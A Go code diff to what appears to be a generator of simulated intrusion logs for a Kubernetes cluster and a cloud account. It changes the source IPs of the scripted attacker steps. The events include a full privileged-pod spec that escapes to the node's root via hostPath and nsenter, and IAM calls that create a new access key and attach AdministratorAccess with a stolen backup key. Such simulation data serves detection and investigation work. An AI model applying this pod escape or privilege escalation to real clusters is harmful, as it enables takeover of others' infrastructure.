@@ -12,7 +12,7 @@ import (
 // asVictim is a request to the cluster with the person's configuration, from
 // the build server.
 func (p *plan) asVictim(verb string, o object, code int) request {
-	return request{user: p.victim.email, groups: []string{"platform-admins", "system:authenticated"}, ip: buildIP, agent: kubectl, verb: verb, object: o, code: code,
+	return request{user: p.victim.login, groups: []string{"platform-admins", "system:authenticated"}, ip: buildIP, agent: kubectl, verb: verb, object: o, code: code,
 		reason: `RBAC: allowed by ClusterRoleBinding \"platform-admins\" of ClusterRole \"cluster-admin\" to Group \"platform-admins\"`}
 }
 
@@ -39,38 +39,41 @@ func listSecrets(p *plan, at int64) {
 	}
 }
 
-// escapeToNode starts a pod that is the node's root.
+// escapeToNode starts a pod that is the node's root: with the configuration
+// that was taken from the build server, from the intruder's own address.
 func escapeToNode(p *plan, at int64) {
 	r := p.asVictim("create", object{"", "v1", "pods", "kube-system", "", ""}, 201)
-	r.level = "Request"
+	r.level, r.ip = "Request", intruder().ip
 	r.payload = `{"kind":"Pod","apiVersion":"v1","metadata":{"name":"` + intruderFile + `","namespace":"kube-system"},"spec":{"nodeName":"node-3","hostPID":true,"hostNetwork":true,` +
 		`"volumes":[{"name":"host","hostPath":{"path":"/","type":""}}],"containers":[{"name":"` + intruderFile + `","image":"docker.io/library/alpine:3.22",` +
 		`"command":["nsenter","-t","1","-m","-u","-i","-n","sh"],"volumeMounts":[{"name":"host","mountPath":"/host"}],"securityContext":{"privileged":true}}]}}`
 	p.request(at, r)
-	p.request(at+25e9, p.asVictim("create", object{"", "v1", "pods", "kube-system", intruderFile, "exec"}, 101))
+	r = p.asVictim("create", object{"", "v1", "pods", "kube-system", intruderFile, "exec"}, 101)
+	r.ip = intruder().ip
+	p.request(at+25e9, r)
 }
 
 // asBackup is a call with the key that was in the container.
-func asBackup(source, name, parameters string) cloudCall {
-	return cloudCall{user: "payments-backup", key: backupKey, ip: egressIP, agent: cli, source: source, name: name, parameters: parameters}
+func asBackup(ip, source, name, parameters string) cloudCall {
+	return cloudCall{user: "payments-backup", key: backupKey, ip: ip, agent: cli, source: source, name: name, parameters: parameters}
 }
 
-// createAccessKey finds out what the key may do and makes another, with all
-// rights.
+// createAccessKey finds out, from the container, what the key may do, and from
+// elsewhere takes all rights and makes another key.
 func createAccessKey(p *plan, at int64) {
-	c := asBackup("sts", "GetCallerIdentity", "")
+	c := asBackup(egressIP, "sts", "GetCallerIdentity", "")
 	c.reads = true
 	p.cloud(at, c)
 	for _, name := range []string{"ListUsers", "ListAttachedUserPolicies", "ListAccessKeys"} {
 		at += 4e9
-		c = asBackup("iam", name, "")
+		c = asBackup(egressIP, "iam", name, "")
 		c.reads = true
 		p.cloud(at, c)
 	}
-	c = asBackup("iam", "CreateAccessKey", `{"userName":"terraform"}`)
+	c = asBackup(intruder().ip, "iam", "CreateAccessKey", `{"userName":"terraform"}`)
 	c.response = `{"accessKey":{"accessKeyId":"` + newKey + `","status":"Active","userName":"terraform","createDate":"Nov 16, 2026, 7:13:20 AM"}}`
 	p.cloud(at+9e9, c)
-	c = asBackup("iam", "AttachUserPolicy", `{"userName":"payments-backup","policyArn":"arn:aws:iam::aws:policy/AdministratorAccess"}`)
+	c = asBackup(intruder().ip, "iam", "AttachUserPolicy", `{"userName":"payments-backup","policyArn":"arn:aws:iam::aws:policy/AdministratorAccess"}`)
 	p.cloud(at+21e9, c)
 }
 
